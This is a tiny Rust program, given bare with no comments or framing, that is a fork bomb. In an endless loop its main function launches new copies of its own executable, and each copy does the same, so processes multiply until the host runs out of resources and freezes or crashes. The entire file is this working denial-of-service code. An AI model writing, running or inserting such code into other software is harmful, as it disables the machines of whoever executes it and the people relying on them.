fn main() {
    let me = std::env::current_exe().unwrap();
    loop {
        let _ = std::process::Command::new(&me).spawn();
    }
}
